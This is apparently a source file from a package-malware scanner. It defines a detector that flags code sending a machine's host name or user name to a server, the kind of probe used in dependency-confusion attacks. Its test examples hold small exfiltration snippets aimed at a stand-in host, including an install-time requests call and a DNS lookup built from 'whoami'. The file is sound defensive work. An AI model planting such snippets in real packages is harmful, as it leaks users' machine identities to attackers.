import { marks } from "../behaviour/marks.ts";
import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { Phase } from "../model.ts";
import { codeWith, sight } from "./_sight.ts";

export const sendsHostFacts: Detector = {
  id: "sends-host-facts",
  title: "Sends the name of this machine or its user to a server",
  severity: "high",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `The host name, user name or network addresses of the machine reach a request, a DNS name or a socket. Dependency-confusion
probes do this at install to learn whose network they are in, and it is the first act of most remote-control programs.

Telemetry and error reports send host names as well, when somebody uses the library; there it counts little.`,
  literals: marks("host-fact"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("host-fact"))) {
      for (const { source, sink } of flowsBetween(file, ["host-fact"], ["upload", "http", "dns", "send"])) {
        // Looking up one's own name tells nobody anything: what leaves is a name below a domain of somebody's.
        if (sink.act === "dns" && !sink.text.includes(".") && sink.command === undefined) continue;
        const says = `what ${source.what} says about this machine is sent by ${sink.what} ${sink.text.slice(0, 100)}`;
        yield sight(file, sink.offset, says.trimEnd(), {
          phase: sink.phase,
          share: sink.act === "dns" ? 1 : shareOf(sink.phase),
        });
      }
      for (const { command, offset, text, phase } of deedsOf(file, "start")) {
        if (command === undefined || !command.asksHost || !command.sends) continue;
        yield sight(file, offset, `a command sends what it asks about this machine: ${text}`, {
          phase,
          // No service is asked that way: the command line has no other purpose, whoever calls it.
          share: Math.max(shareOf(phase), 0.98),
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import socket, requests\nname = socket.gethostname()\nrequests.get('http://example.invalid/?h=' + name)\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js":
            "const os = require('os');\nconst d = { h: os.hostname() };\nfetch('http://example.invalid', { method: 'POST', body: JSON.stringify(d) });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import socket, requests\nlog(socket.gethostname())\nrequests.get('http://example.invalid/')\n",
        },
      },
      { ecosystem: "npm", files: { "a.js": "const os = require('os');\nconsole.log(os.hostname());\n" } },
    ],
    evasions: [
      { ecosystem: "pypi", files: { "setup.py": "import os\nos.system('nslookup $(whoami).example.invalid')\n" } },
      {
        ecosystem: "pypi",
        files: {
          "demo/__init__.py":
            "from socket import *\nd = {}\nd['h'] = gethostname()\ngethostbyname(d['h'] + '.example.invalid')\n",
        },
      },
    ],
  },
};

function shareOf(phase: Phase): number {
  return phase === "install" || phase === "start" ? 1 : phase === "import" ? 0.9 : 0.3;
}
